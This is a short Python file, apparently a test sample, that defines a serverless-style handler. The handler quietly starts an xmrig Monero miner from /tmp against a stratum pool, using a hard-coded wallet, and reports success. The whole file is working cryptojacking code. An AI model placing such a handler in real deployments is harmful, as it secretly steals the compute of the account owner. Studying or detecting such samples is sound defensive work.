"""Sample hostile function: starts a Monero miner against a stratum pool."""
import os
import subprocess

POOL = "stratum+tcp://pool.example.net:3333"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def handle(event, context):
    subprocess.Popen(["/tmp/xmrig", "-o", POOL, "-u", WALLET, "--donate-level", "1"])
    return {"ok": True}
